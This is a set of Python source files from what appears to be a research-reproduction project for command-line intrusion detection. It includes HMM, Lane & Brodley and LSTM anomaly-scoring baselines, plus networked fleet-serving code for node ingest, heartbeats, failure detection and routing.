        """Length-normalised log-likelihood (comparable across lengths)."""
        seq = np.asarray(sequence, dtype=np.int64)
        if seq.size == 0:
            return 0.0
        return self.log_likelihood(seq) / seq.size

    # -- training -----------------------------------------------------------

    def fit(self, sequences: list[Sequence[int]], iterations: int = 15) -> "DiscreteHMM":
        """Baum–Welch (EM) on the given symbol sequences."""
        sequences = [np.asarray(s, dtype=np.int64) for s in sequences if len(s) > 0]
        if not sequences:
            raise ValueError("need at least one non-empty sequence")
        for _ in range(iterations):
            start_acc = np.zeros(self.n_states)
            trans_acc = np.zeros((self.n_states, self.n_states))
            emit_acc = np.zeros((self.n_states, self.n_symbols))
            for seq in sequences:
                alpha, scales = self._forward(seq)
                beta = self._backward(seq, scales)
                gamma = alpha * beta
                gamma /= np.maximum(gamma.sum(axis=1, keepdims=True), 1e-300)
                start_acc += gamma[0]
                for t in range(len(seq) - 1):
                    xi = (
                        alpha[t][:, None]
                        * self.transition
                        * self.emission[:, seq[t + 1]][None, :]
                        * beta[t + 1][None, :]
                    )
                    total = xi.sum() or 1e-300
                    trans_acc += xi / total
                np.add.at(emit_acc.T, seq, gamma)
            self.start = self._stochastic(start_acc)
            self.transition = np.apply_along_axis(self._stochastic, 1, trans_acc)
            self.emission = np.apply_along_axis(self._stochastic, 1, emit_acc)
        return self


class HMMProfileDetector:
    """Per-user profile HMMs over command-name sequences.

    Parameters
    ----------
    n_states:
        Hidden states per profile (Huang & Stamp use small profiles).
    min_history:
        Users with fewer training commands share a global profile.
    em_iterations:
        Baum–Welch iterations per profile.

    Scores are negated per-symbol log-likelihood under the issuing
    user's profile — high surprise means anomalous.
    """

    def __init__(self, n_states: int = 4, min_history: int = 30, em_iterations: int = 10, seed: int = 0):
        self.n_states = n_states
        self.min_history = min_history
        self.em_iterations = em_iterations
        self.seed = seed
        self._extractor = CommandExtractor()
        self._symbols: dict[str, int] = {}
        self._models: dict[str, DiscreteHMM] = {}
        self._global_model: DiscreteHMM | None = None
        self._fitted = False

    def _symbol_of(self, name: str, grow: bool) -> int | None:
        index = self._symbols.get(name)
        if index is None and grow:
            index = len(self._symbols)
            self._symbols[name] = index
        return index

    def _line_symbols(self, line: str, grow: bool) -> list[int]:
        summary = self._extractor.try_summarize(line)
        if summary is None:
            return []
        symbols = []
        for name in summary.names:
            index = self._symbol_of(name, grow)
            if index is not None:
                symbols.append(index)
        return symbols

    def fit(self, dataset: CommandDataset) -> "HMMProfileDetector":
        """Train one profile HMM per sufficiently-active user + a global one."""
        per_user: dict[str, list[list[int]]] = defaultdict(list)
        # session-level sequences: the unit Huang & Stamp align
        by_session: dict[tuple[str, str], list[int]] = defaultdict(list)
        for record in dataset:
            by_session[(record.user, record.session)].extend(self._line_symbols(record.line, grow=True))
        for (user, _), sequence in by_session.items():
            if sequence:
                per_user[user].append(sequence)
        n_symbols = max(len(self._symbols), 1)
        all_sequences = [s for sequences in per_user.values() for s in sequences]
        self._global_model = DiscreteHMM(self.n_states, n_symbols, seed=self.seed).fit(
            all_sequences, iterations=self.em_iterations
        )
        for user, sequences in per_user.items():
            if sum(len(s) for s in sequences) >= self.min_history:
                self._models[user] = DiscreteHMM(self.n_states, n_symbols, seed=self.seed).fit(
                    sequences, iterations=self.em_iterations
                )
        self._fitted = True
        return self

    def score_record(self, user: str, line: str) -> float:
        """Surprise of one line under the user's (or global) profile."""
        if not self._fitted:
            raise NotFittedError("HMMProfileDetector must be fitted first")
        assert self._global_model is not None
        symbols = [s for s in self._line_symbols(line, grow=False)]
        if not symbols:
            # unknown command names are maximally surprising
            return float(np.log(max(len(self._symbols), 2)))
        model = self._models.get(user, self._global_model)
        return -model.per_symbol_log_likelihood(symbols)

    def score(self, dataset: CommandDataset) -> np.ndarray:
        """Surprise scores aligned with *dataset* records."""
        return np.array([self.score_record(r.user, r.line) for r in dataset])

    def profiled_users(self) -> set[str]:
        """Users with a dedicated profile HMM."""
        return set(self._models)
