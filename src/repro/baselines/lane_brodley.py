"""Lane & Brodley (1997): per-user command profiles with similarity scoring.

The paper's related-work section describes this classic approach:
"build a profile that enumerates command names and flags in historical
operations for each user and evaluate the similarity of a command
operation to all profiles in order to determine whether it is abnormal".

The reproduction implements the method as published — per-user bags of
(command name, flag) tokens with smoothed cosine similarity — so the
comparison experiment can demonstrate the limitation the paper calls
out: profile methods need abundant per-user history and misfire on the
new users that dominate cloud telemetry.
"""

from __future__ import annotations

from collections import Counter, defaultdict
from collections.abc import Sequence

import numpy as np

from repro.errors import NotFittedError
from repro.loggen.dataset import CommandDataset
from repro.shell.extract import CommandExtractor


def _profile_tokens(line: str, extractor: CommandExtractor) -> list[str]:
    """The (command names + flags) token bag the method profiles.

    Only names and flags are used — the paper notes "Lane and Brodley's
    ... only utilize command names and flags".
    """
    summary = extractor.try_summarize(line)
    if summary is None:
        return []
    return summary.names + summary.flags


class LaneBrodleyProfiler:
    """Per-user profile anomaly detector.

    Parameters
    ----------
    smoothing:
        Additive smoothing applied to profile counts.
    min_history:
        Users with fewer profiled events than this fall back to the
        global profile (and are where the method struggles).

    Scores are ``1 − similarity`` of the event's token bag to the user's
    profile (larger = more anomalous).
    """

    def __init__(self, smoothing: float = 1.0, min_history: int = 20):
        if smoothing <= 0:
            raise ValueError("smoothing must be positive")
        self.smoothing = smoothing
        self.min_history = min_history
        self._extractor = CommandExtractor()
        self._profiles: dict[str, Counter[str]] = {}
        self._profile_totals: dict[str, int] = {}
        self._global: Counter[str] = Counter()
        self._global_total = 0
        self._fitted = False

    def fit(self, dataset: CommandDataset) -> "LaneBrodleyProfiler":
        """Build per-user and global profiles from historical telemetry."""
        profiles: dict[str, Counter[str]] = defaultdict(Counter)
        for record in dataset:
            tokens = _profile_tokens(record.line, self._extractor)
            profiles[record.user].update(tokens)
            self._global.update(tokens)
        self._profiles = dict(profiles)
        self._profile_totals = {user: sum(c.values()) for user, c in self._profiles.items()}
        self._global_total = sum(self._global.values())
        self._fitted = True
        return self

    def _similarity(self, tokens: list[str], profile: Counter[str], total: int) -> float:
        """Smoothed cosine similarity between the event bag and a profile."""
        if not tokens or total == 0:
            return 0.0
        event = Counter(tokens)
        dot = 0.0
        profile_norm_sq = 0.0
        vocabulary = set(event) | set(profile)
        for token in vocabulary:
            p = (profile[token] + self.smoothing) / (total + self.smoothing * len(vocabulary))
            e = event[token] / len(tokens)
            dot += p * e
            profile_norm_sq += p * p
        event_norm = np.sqrt(sum((c / len(tokens)) ** 2 for c in event.values()))
        denominator = np.sqrt(profile_norm_sq) * event_norm
        return float(dot / denominator) if denominator > 0 else 0.0

    def score_record(self, user: str, line: str) -> float:
        """Anomaly score of one event for one user (1 − similarity)."""
        if not self._fitted:
            raise NotFittedError("LaneBrodleyProfiler must be fitted first")
        tokens = _profile_tokens(line, self._extractor)
        profile = self._profiles.get(user)
        if profile is None or self._profile_totals.get(user, 0) < self.min_history:
            profile, total = self._global, self._global_total
        else:
            total = self._profile_totals[user]
        return 1.0 - self._similarity(tokens, profile, total)

    def score(self, dataset: CommandDataset) -> np.ndarray:
        """Anomaly scores aligned with *dataset* records."""
        return np.array([self.score_record(r.user, r.line) for r in dataset])

    def score_lines(self, lines: Sequence[str], user: str = "<unknown>") -> np.ndarray:
        """Score raw lines as if produced by a single (possibly new) user."""
        return np.array([self.score_record(user, line) for line in lines])

    def known_users(self) -> set[str]:
        """Users with a dedicated profile."""
        return set(self._profiles)
