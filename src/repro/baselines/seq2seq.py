"""Liu & Mao (2022): RNN next-command prediction for intrusion detection.

The related-work section summarises the approach: "constructed a
sequence-to-sequence model on the basis of recurrent neural networks to
predict following command-line behaviors given previous ones", flagging
behaviour the model finds unpredictable.  The reproduction trains an
LSTM language model over per-user command-name sequences (the cited
method also restricts itself to names and flags) and scores each event
by its prediction surprisal.
"""

from __future__ import annotations

from collections import defaultdict

import numpy as np

from repro.errors import NotFittedError
from repro.loggen.dataset import CommandDataset
from repro.nn import functional as F
from repro.nn.layers import Embedding, Linear
from repro.nn.module import Module, no_grad
from repro.nn.optim import AdamW
from repro.nn.recurrent import LSTM
from repro.nn.tensor import Tensor
from repro.shell.extract import CommandExtractor

_UNK = "<unk>"
_BOS = "<bos>"


class _NextCommandLM(Module):
    """Embedding → LSTM → vocabulary logits, one step per command."""

    def __init__(self, vocab_size: int, embed_dim: int, hidden_size: int, rng: np.random.Generator):
        super().__init__()
        self.embedding = Embedding(vocab_size, embed_dim, rng)
        self.lstm = LSTM(embed_dim, hidden_size, rng)
        self.output = Linear(hidden_size, vocab_size, rng)

    def forward(self, ids: np.ndarray) -> Tensor:
        embedded = self.embedding(ids)  # (B, T, E)
        hidden = self.lstm(embedded)  # (B, T, H)
        return self.output(hidden)  # (B, T, V)


class Seq2SeqBaseline:
    """Next-command-surprisal intrusion scoring (Liu & Mao-style).

    Parameters
    ----------
    embed_dim / hidden_size:
        LSTM language-model dimensions.
    window:
        Commands of history fed per prediction (sequences are chunked).
    epochs / lr / batch_size:
        Training recipe over the historical sequences.
    max_vocab:
        Command-name vocabulary cap (rarer names map to ``<unk>``).
    """

    def __init__(
        self,
        embed_dim: int = 16,
        hidden_size: int = 32,
        window: int = 8,
        epochs: int = 3,
        lr: float = 5e-3,
        batch_size: int = 32,
        max_vocab: int = 200,
        seed: int = 0,
    ):
        self.embed_dim = embed_dim
        self.hidden_size = hidden_size
        self.window = window
        self.epochs = epochs
        self.lr = lr
        self.batch_size = batch_size
        self.max_vocab = max_vocab
        self.seed = seed
        self._extractor = CommandExtractor()
        self._vocab: dict[str, int] = {}
        self._model: _NextCommandLM | None = None
        self._fitted = False

    # -- vocabulary --------------------------------------------------------

    def _build_vocab(self, names: list[str]) -> None:
        from collections import Counter

        counts = Counter(names)
        self._vocab = {_UNK: 0, _BOS: 1}
        for name, _ in counts.most_common(self.max_vocab - 2):
            self._vocab[name] = len(self._vocab)

    def _id_of(self, name: str) -> int:
        return self._vocab.get(name, 0)

    def _primary_name(self, line: str) -> str:
        summary = self._extractor.try_summarize(line)
        if summary is None or summary.primary_name is None:
            return _UNK
        return summary.primary_name

    def _user_sequences(self, dataset: CommandDataset) -> dict[str, list[int]]:
        sequences: dict[str, list[int]] = defaultdict(list)
        for record in dataset:
            sequences[record.user].append(self._id_of(self._primary_name(record.line)))
        return sequences

    # -- training ------------------------------------------------------------

    def fit(self, dataset: CommandDataset) -> "Seq2SeqBaseline":
        """Train the next-command LM on historical per-user sequences."""
        names = [self._primary_name(record.line) for record in dataset]
        self._build_vocab(names)
        rng = np.random.default_rng(self.seed)
        self._model = _NextCommandLM(len(self._vocab), self.embed_dim, self.hidden_size, rng)
        windows: list[list[int]] = []
        for sequence in self._user_sequences(dataset).values():
            padded = [self._vocab[_BOS], *sequence]
            for start in range(0, max(len(padded) - 1, 1), self.window):
                chunk = padded[start : start + self.window + 1]
                if len(chunk) >= 2:
                    windows.append(chunk)
        if not windows:
            raise ValueError("no trainable sequences in dataset")
        width = self.window + 1
        matrix = np.zeros((len(windows), width), dtype=np.int64)
        mask = np.full((len(windows), width), -100, dtype=np.int64)
        for row, chunk in enumerate(windows):
            matrix[row, : len(chunk)] = chunk
            mask[row, : len(chunk)] = chunk
        optimizer = AdamW(self._model.parameters(), lr=self.lr)
        for _ in range(self.epochs):
            order = rng.permutation(len(windows))
            for start in range(0, len(order), self.batch_size):
                batch = order[start : start + self.batch_size]
                inputs = matrix[batch, :-1]
                targets = mask[batch, 1:]
                optimizer.zero_grad()
                logits = self._model(inputs)
                loss = F.cross_entropy(logits, targets, ignore_index=-100)
                loss.backward()
                optimizer.step()
        self._fitted = True
        return self

    # -- scoring ---------------------------------------------------------------

    def score(self, dataset: CommandDataset) -> np.ndarray:
        """Per-record surprisal of each command given the user's history."""
        if not self._fitted:
            raise NotFittedError("Seq2SeqBaseline must be fitted first")
        assert self._model is not None
        history: dict[str, list[int]] = defaultdict(lambda: [self._vocab[_BOS]])
        contexts: list[list[int]] = []
        targets: list[int] = []
        for record in dataset:
            symbol = self._id_of(self._primary_name(record.line))
            past = history[record.user]
            contexts.append(past[-self.window :])
            targets.append(symbol)
            past.append(symbol)
        scores = np.empty(len(contexts))
        with no_grad(self._model):
            for start in range(0, len(contexts), self.batch_size):
                chunk = contexts[start : start + self.batch_size]
                width = max(len(c) for c in chunk)
                ids = np.zeros((len(chunk), width), dtype=np.int64)
                lengths = np.empty(len(chunk), dtype=np.int64)
                for row, context in enumerate(chunk):
                    ids[row, : len(context)] = context
                    lengths[row] = len(context)
                logits = self._model(ids).data
                rows = np.arange(len(chunk))
                final = logits[rows, lengths - 1]  # (b, V)
                shifted = final - final.max(axis=1, keepdims=True)
                log_probs = shifted - np.log(np.exp(shifted).sum(axis=1, keepdims=True))
                batch_targets = np.array(targets[start : start + len(chunk)])
                scores[start : start + len(chunk)] = -log_probs[rows, batch_targets]
        return scores

    @property
    def vocab_size(self) -> int:
        """Size of the learned command-name vocabulary."""
        return len(self._vocab)
