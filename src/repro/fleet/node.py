"""One serving node of the fleet: a TCP face on a :class:`DetectionServer`.

A :class:`FleetNode` owns one
:class:`~repro.serving.server.DetectionServer` and exposes it to the
network through the frame protocol of :mod:`repro.fleet.protocol`:

- ``ingest`` frames feed :meth:`DetectionServer.submit_many`, so the
  whole columnar batch path — one preprocess pass, one cache sweep, one
  deduplicated scoring call per shard — is preserved end to end; the
  ``ack`` carries the batch's counts and the set of model generations
  that scored it (the rolling-swap tests assert that set is always a
  singleton: no batch mixes generations).
- ``heartbeat`` frames answer immediately with the node's vitals
  (generation, draining flag, events served) — they ride their own
  connection, so a large scoring batch never delays a liveness probe.
- ``admin`` frames are the control plane: ``status`` / ``metrics``
  (a lossless :meth:`ServingMetrics.to_dict` snapshot), ``swap``
  (generation-fenced hot model rotation), ``resize`` (backend pool),
  ``drain`` / ``undrain`` (refuse new batches while finishing in-flight
  work).

Each connection is served by one coroutine that reads a frame, awaits
its handler, and writes exactly one response frame — requests on one
connection are processed in order, and connections are independent.
A draining node **nacks** ingest batches instead of processing them;
a nacked batch was untouched, so the router re-routes it with no
duplicate scoring.
"""

from __future__ import annotations

import asyncio
from collections.abc import Callable

from repro.errors import ConfigError, FleetError, ReproError
from repro.fleet.protocol import (
    PROTOCOL_VERSION,
    ack_message,
    admin_message,
    decode_events,
    error_message,
    nack_message,
    read_frame,
    write_frame,
)
from repro.serving.events import CommandEvent
from repro.serving.server import DetectionServer

#: ``admin`` verbs a node answers (the control-plane surface).
ADMIN_VERBS = ("ping", "status", "metrics", "swap", "resize", "drain", "undrain")


def _default_swap_resolver(ref: str) -> dict:
    """Map a wire-level swap reference to ``swap_model`` keyword args.

    Production swaps name a bundle directory the node can reach; tests
    inject a resolver that returns ``{"service": <stub>}`` instead.
    """
    if not isinstance(ref, str) or not ref:
        raise FleetError(f"swap needs a bundle directory reference (got {ref!r})")
    return {"bundle_dir": ref}


class FleetNode:
    """One node's network runtime: TCP listener + the wrapped server.

    Parameters
    ----------
    server:
        The :class:`DetectionServer` this node serves.  The node owns
        its lifecycle: :meth:`start` starts it, :meth:`stop` drains it.
    host / port:
        Bind address (``port=0`` lets the OS pick; read :attr:`port`
        after :meth:`start`).
    node_id:
        Stable identifier for status output (default: ``host:port``
        once bound).
    swap_resolver:
        Maps the ``swap`` verb's bundle reference to
        :meth:`DetectionServer.swap_model` keyword arguments.
    """

    def __init__(
        self,
        server: DetectionServer,
        *,
        host: str = "127.0.0.1",
        port: int = 0,
        node_id: str | None = None,
        swap_resolver: Callable[[str], dict] | None = None,
    ):
        self.server = server
        self.host = host
        self.port = port
        self.node_id = node_id
        self.draining = False
        self._swap_resolver = swap_resolver or _default_swap_resolver
        self._tcp: asyncio.base_events.Server | None = None
        self._writers: set[asyncio.StreamWriter] = set()
        self._swap_fence = asyncio.Lock()
        # node-level wire accounting (the serving metrics count events;
        # these count the protocol around them)
        self.batches_ingested = 0
        self.events_ingested = 0
        self.nacks = 0
        self.heartbeats = 0

    # -- lifecycle ---------------------------------------------------------

    async def start(self) -> "FleetNode":
        """Start the wrapped server, then bind and listen."""
        await self.server.start()
        self._tcp = await asyncio.start_server(self._handle, self.host, self.port)
        self.port = self._tcp.sockets[0].getsockname()[1]
        if self.node_id is None:
            self.node_id = f"{self.host}:{self.port}"
        return self

    @property
    def address(self) -> str:
        """The ``host:port`` ingest address peers dial."""
        return f"{self.host}:{self.port}"

    async def stop(self) -> None:
        """Stop listening, close connections, drain the server."""
        if self._tcp is not None:
            self._tcp.close()
            await self._tcp.wait_closed()
            self._tcp = None
        for writer in list(self._writers):
            writer.close()
        self._writers.clear()
        await self.server.stop()

    async def kill(self) -> None:
        """Die abruptly: abort every connection without acknowledging.

        The failure-injection path for tests and demos — in-flight
        batches are never acked, exactly like a crashed process, so the
        router must replay them.  The wrapped server is still stopped
        afterwards (this process goes on living even if the "node"
        died).
        """
        if self._tcp is not None:
            self._tcp.close()
            await self._tcp.wait_closed()
            self._tcp = None
        for writer in list(self._writers):
            transport = writer.transport
            if transport is not None:
                transport.abort()
        self._writers.clear()
        await self.server.stop()

    async def serve_forever(self) -> None:
        """Block serving connections until cancelled (CLI entry point)."""
        if self._tcp is None:
            raise FleetError("node is not started; call start() first")
        await self._tcp.serve_forever()

    async def __aenter__(self) -> "FleetNode":
        return await self.start()

    async def __aexit__(self, *exc_info) -> None:
        await self.stop()

    # -- connection handling -----------------------------------------------

    async def _handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._writers.add(writer)
        try:
            while True:
                message = await read_frame(reader)
                if message is None:
                    return
                try:
                    response = await self._dispatch(message)
                except FleetError as exc:
                    response = error_message(str(exc))
                except ReproError as exc:
                    response = error_message(f"{type(exc).__name__}: {exc}")
                await write_frame(writer, response)
        except (FleetError, ConnectionError, asyncio.IncompleteReadError):
            return  # corrupt frame or peer vanished: drop the connection
        finally:
            self._writers.discard(writer)
            writer.close()

    async def _dispatch(self, message: dict) -> dict:
        kind = message.get("type")
        if kind == "ingest":
            return await self._ingest(message)
        if kind == "heartbeat":
            return self._heartbeat(message)
        if kind == "admin":
            return await self._admin(message)
        raise FleetError(f"unknown frame type {kind!r}")

    # -- ingest ------------------------------------------------------------

    async def _ingest(self, message: dict) -> dict:
        batch_id = int(message.get("batch_id", -1))
        if self.draining:
            self.nacks += 1
            return nack_message(batch_id, "draining")
        events = decode_events(message)
        results = await self.server.submit_many(
            CommandEvent(line=line, host=host, timestamp=timestamp)
            for line, host, timestamp in events
        )
        self.batches_ingested += 1
        self.events_ingested += len(results)
        return ack_message(
            batch_id,
            events=len(results),
            dropped=sum(result.dropped for result in results),
            intrusions=sum(result.is_intrusion for result in results),
            alerts=sum(result.alert is not None for result in results),
            generations=sorted({result.generation for result in results}),
        )

    # -- heartbeat ---------------------------------------------------------

    def _heartbeat(self, message: dict) -> dict:
        self.heartbeats += 1
        return {
            "type": "heartbeat_ack",
            "seq": message.get("seq"),
            "node_id": self.node_id,
            "generation": self.server.generation,
            "draining": self.draining,
            "events_total": self.events_ingested,
        }

    # -- control plane -----------------------------------------------------

    async def _admin(self, message: dict) -> dict:
        verb = message.get("verb")
        if verb not in ADMIN_VERBS:
            raise FleetError(
                f"unknown admin verb {verb!r} (known verbs: {', '.join(ADMIN_VERBS)})"
            )
        handler = getattr(self, f"_admin_{verb}")
        return await handler(message)

    def _ack(self, verb: str, **fields) -> dict:
        return {"type": "admin_ack", "verb": verb, "ok": True, **fields}

    def _refuse(self, verb: str, error: str) -> dict:
        return {"type": "admin_ack", "verb": verb, "ok": False, "error": error}

    async def _admin_ping(self, message: dict) -> dict:
        return self._ack("ping", node_id=self.node_id, protocol=PROTOCOL_VERSION)

    def _status_payload(self) -> dict:
        return {
            "node_id": self.node_id,
            "address": self.address,
            "generation": self.server.generation,
            "draining": self.draining,
            "batches_ingested": self.batches_ingested,
            "events_ingested": self.events_ingested,
            "nacks": self.nacks,
            "heartbeats": self.heartbeats,
        }

    async def _admin_status(self, message: dict) -> dict:
        return self._ack(
            "status", **self._status_payload(), metrics=self.server.metrics.to_dict()
        )

    async def _admin_metrics(self, message: dict) -> dict:
        return self._ack("metrics", metrics=self.server.metrics.to_dict())

    async def _admin_swap(self, message: dict) -> dict:
        """Generation-fenced hot swap.

        ``expect_generation`` (optional) must match the node's current
        generation or the verb is refused — the fence that stops a
        retried or duplicated swap command from rotating a node twice.
        The fence check and the swap itself hold one lock, so two
        concurrent swap verbs cannot both pass the fence.
        """
        async with self._swap_fence:
            expect = message.get("expect_generation")
            if expect is not None and int(expect) != self.server.generation:
                return self._refuse(
                    "swap",
                    f"generation fence: node is at {self.server.generation}, "
                    f"caller expected {expect}",
                )
            kwargs = self._swap_resolver(message.get("bundle"))
            report = await self.server.swap_model(**kwargs)
        return self._ack(
            "swap",
            node_id=self.node_id,
            generation=report.generation,
            swap_ms=report.swap_ms,
            drain_ms=report.drain_ms,
            cache_invalidated=report.cache_invalidated,
        )

    async def _admin_resize(self, message: dict) -> dict:
        workers = message.get("workers")
        if not isinstance(workers, int) or isinstance(workers, bool) or workers < 1:
            raise FleetError(f"resize needs an integer workers >= 1 (got {workers!r})")
        try:
            changed = await self.server.resize_backend(workers)
        except ConfigError as exc:
            return self._refuse("resize", str(exc))
        return self._ack(
            "resize", workers=self.server.backend.workers, changed=changed
        )

    async def _admin_drain(self, message: dict) -> dict:
        self.draining = True
        return self._ack("drain", node_id=self.node_id, draining=True)

    async def _admin_undrain(self, message: dict) -> dict:
        self.draining = False
        return self._ack("undrain", node_id=self.node_id, draining=False)


def admin_request(verb: str, **fields) -> dict:
    """Convenience constructor mirroring :func:`admin_message` (re-export
    kept here so control-plane callers import one module)."""
    return admin_message(verb, **fields)
