"""Networked multi-node serving: one detector built from N servers.

The single-process :class:`~repro.serving.server.DetectionServer`
shards hosts across in-process pipelines; this package lifts the same
design one level up, across processes and machines:

- :mod:`repro.fleet.protocol` — length-prefixed newline-JSON frames
  (ingest batches, acks, heartbeats, admin verbs);
- :mod:`repro.fleet.node` — :class:`FleetNode`, the TCP face on one
  :class:`DetectionServer`;
- :mod:`repro.fleet.router` — :class:`FleetRouter`, the ingest
  frontend: node-level hash ring over ``event.host`` (the same
  :class:`~repro.serving.ring.HashRing` the shard router uses),
  per-node batching with bounded in-flight windows, heartbeat-driven
  eviction with drain-and-reassign, at-least-once replay, rolling
  generation-fenced fleet swaps, and merged fleet metrics;
- :mod:`repro.fleet.membership` — the pure consecutive-miss failure
  detector behind the heartbeats;
- :mod:`repro.fleet.config` — the ``[fleet]`` deployment block;
- :mod:`repro.fleet.cli` — ``repro-ids fleet-node`` / ``fleet-route``
  / ``fleet-admin``.
"""

from repro.fleet.config import FleetConfig, load_fleet_file, parse_address
from repro.fleet.membership import DEAD, LIVE, SUSPECT, FailureDetector, NodeHealth
from repro.fleet.node import ADMIN_VERBS, FleetNode
from repro.fleet.protocol import (
    MAX_FRAME_BYTES,
    PROTOCOL_VERSION,
    FleetChannel,
    ack_message,
    admin_message,
    decode_events,
    encode_frame,
    error_message,
    heartbeat_message,
    ingest_message,
    nack_message,
    read_frame,
    write_frame,
)
from repro.fleet.router import FleetRouter

__all__ = [
    "ADMIN_VERBS",
    "DEAD",
    "LIVE",
    "MAX_FRAME_BYTES",
    "PROTOCOL_VERSION",
    "SUSPECT",
    "FailureDetector",
    "FleetChannel",
    "FleetConfig",
    "FleetNode",
    "FleetRouter",
    "NodeHealth",
    "ack_message",
    "admin_message",
    "decode_events",
    "encode_frame",
    "error_message",
    "heartbeat_message",
    "ingest_message",
    "load_fleet_file",
    "nack_message",
    "parse_address",
    "read_frame",
    "write_frame",
]
