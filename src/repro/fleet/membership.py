"""Fleet membership: per-node liveness accounting and suspicion.

The router probes every node on a fixed heartbeat interval; this module
is the **pure bookkeeping** behind those probes, kept free of sockets
and clocks so the eviction policy is unit-testable: a node moves

    LIVE ──(miss)──► SUSPECT ──(misses >= suspicion_misses)──► DEAD

and a single successful probe anywhere on that path snaps it back to
LIVE (consecutive misses, not cumulative — a lossy-but-alive node must
not accumulate toward eviction across hours).  DEAD is terminal for
the detector: the router evicts the node, reassigns its hosts, and
replays its unacknowledged batches; a recovered process rejoins as a
*new* member, it does not resurrect.

:class:`FailureDetector` tracks all nodes; :class:`NodeHealth` is one
node's record (exposed for status output).
"""

from __future__ import annotations

from dataclasses import dataclass, field

LIVE = "live"
SUSPECT = "suspect"
DEAD = "dead"


@dataclass
class NodeHealth:
    """Liveness record for one node, updated by the failure detector."""

    node_id: str
    state: str = LIVE
    consecutive_misses: int = 0
    probes: int = 0
    last_ok_at: float | None = None
    vitals: dict = field(default_factory=dict)

    def snapshot(self) -> dict:
        """Stable-keyed, JSON-serialisable form (for status output)."""
        return {
            "node_id": self.node_id,
            "state": self.state,
            "consecutive_misses": self.consecutive_misses,
            "probes": self.probes,
            "last_ok_at": self.last_ok_at,
        }


class FailureDetector:
    """Consecutive-miss suspicion over a set of named nodes.

    Parameters
    ----------
    suspicion_misses:
        Consecutive failed probes after which a node is declared DEAD
        (the first miss already marks it SUSPECT).  With a heartbeat
        interval of *i* seconds, detection latency is about
        ``suspicion_misses * i`` plus one probe timeout.
    """

    def __init__(self, suspicion_misses: int = 3):
        if suspicion_misses < 1:
            raise ValueError("suspicion_misses must be >= 1")
        self.suspicion_misses = suspicion_misses
        self._nodes: dict[str, NodeHealth] = {}

    def add(self, node_id: str) -> NodeHealth:
        """Start tracking *node_id* (idempotent; a dead id stays dead)."""
        return self._nodes.setdefault(node_id, NodeHealth(node_id))

    def forget(self, node_id: str) -> None:
        """Stop tracking *node_id* entirely."""
        self._nodes.pop(node_id, None)

    def record_ok(self, node_id: str, *, now: float, vitals: dict | None = None) -> None:
        """One successful probe: the node is LIVE, misses reset."""
        health = self.add(node_id)
        if health.state == DEAD:
            return  # terminal: a late ack must not resurrect an evicted node
        health.probes += 1
        health.consecutive_misses = 0
        health.state = LIVE
        health.last_ok_at = now
        if vitals is not None:
            health.vitals = vitals

    def record_miss(self, node_id: str) -> str:
        """One failed/timed-out probe; returns the node's new state."""
        health = self.add(node_id)
        if health.state == DEAD:
            return DEAD
        health.probes += 1
        health.consecutive_misses += 1
        if health.consecutive_misses >= self.suspicion_misses:
            health.state = DEAD
        else:
            health.state = SUSPECT
        return health.state

    def mark_dead(self, node_id: str) -> None:
        """Declare *node_id* DEAD immediately (e.g. its TCP connection
        broke mid-send — stronger evidence than a missed heartbeat)."""
        self.add(node_id).state = DEAD

    def state(self, node_id: str) -> str:
        health = self._nodes.get(node_id)
        return health.state if health is not None else DEAD

    def health(self, node_id: str) -> NodeHealth | None:
        return self._nodes.get(node_id)

    def live_nodes(self) -> list[str]:
        """Ids not yet declared DEAD (SUSPECT still receives traffic —
        eviction is the detector's call alone, so routing never flaps
        on a single lost probe)."""
        return [
            node_id
            for node_id, health in self._nodes.items()
            if health.state != DEAD
        ]

    def snapshot(self) -> dict:
        """Per-node health, JSON-serialisable."""
        return {node_id: health.snapshot() for node_id, health in self._nodes.items()}
