"""The fleet's ingest frontend: host-ring routing, windows, failover.

:class:`FleetRouter` is the piece that makes N :class:`FleetNode`
processes act as one detector.  It accepts the same event stream a
single :class:`~repro.serving.server.DetectionServer` would and:

- **routes** every event by ``event.host`` on a node-level
  :class:`~repro.serving.ring.HashRing` — the *same* ring (same blake2b
  points, same virtual-node scheme) the in-process
  :class:`~repro.serving.shard.ShardRouter` uses one level down, so a
  host's whole command stream lands on one node and that node's session
  aggregator sees it in order;
- **batches** per node (fill-or-deadline, the fleet-level twin of the
  server's micro-batch policy) and keeps at most
  ``max_inflight_batches`` unacknowledged frames per node — a full
  window blocks the submitter, which is the fleet's backpressure;
- **detects failure** with periodic heartbeats on a dedicated
  connection per node (so a slow scoring batch never looks like a
  death) driven by the pure
  :class:`~repro.fleet.membership.FailureDetector`, and treats a broken
  ingest connection as immediate death;
- **fails over** by rebuilding the ring without the dead node — the
  ring moves only the dead node's hosts, ~1/N of the key space — and
  replaying every unacknowledged and still-buffered event to the
  surviving owners.  Delivery is therefore *at-least-once*: a node that
  died after scoring but before acking causes a replay, never a silent
  drop.  Per-host ordering is preserved on the steady path and
  best-effort across a failover.
- **rolls swaps** across the fleet one node at a time: take the node
  out of the ring, drain its window, issue a generation-fenced ``swap``
  verb, verify the new generation, put it back.  Traffic keeps flowing
  to the other nodes throughout, and no node ever scores a batch with
  two generations (the per-node swap already guarantees that; the
  rolling order guarantees the fleet converges).

Everything here runs on one asyncio loop; the router is not
thread-safe.  Use it as an async context manager or call
:meth:`start` / :meth:`stop`.
"""

from __future__ import annotations

import asyncio
import time
from collections import OrderedDict, deque
from collections.abc import Iterable

from repro.errors import FleetError
from repro.fleet.config import FleetConfig, parse_address
from repro.fleet.membership import DEAD, FailureDetector
from repro.fleet.protocol import (
    admin_message,
    heartbeat_message,
    ingest_message,
    read_frame,
    write_frame,
)
from repro.serving.events import CommandEvent
from repro.serving.metrics import ServingMetrics
from repro.serving.ring import HashRing

#: One buffered/in-flight event: ``(line, host, timestamp)``.
_Event = tuple[str, str, float | None]


class _NodeClient:
    """Router-side state for one node: connection, buffer, window."""

    def __init__(self, address: str, *, max_inflight: int):
        self.address = address
        self.host, self.port = parse_address(address)
        self.reader: asyncio.StreamReader | None = None
        self.writer: asyncio.StreamWriter | None = None
        self.reader_task: asyncio.Task | None = None
        self.heartbeat_task: asyncio.Task | None = None
        self.buffer: list[_Event] = []
        self.buffer_since: float | None = None  # perf_counter of oldest buffered
        self.unacked: "OrderedDict[int, list[_Event]]" = OrderedDict()
        self.window = asyncio.Semaphore(max_inflight)
        self.alive = True  # False once evicted; never set back
        self.held = False  # router-side: parked out of the ring (rolling swap)
        self.remote_draining = False  # learned from heartbeats / drain nacks
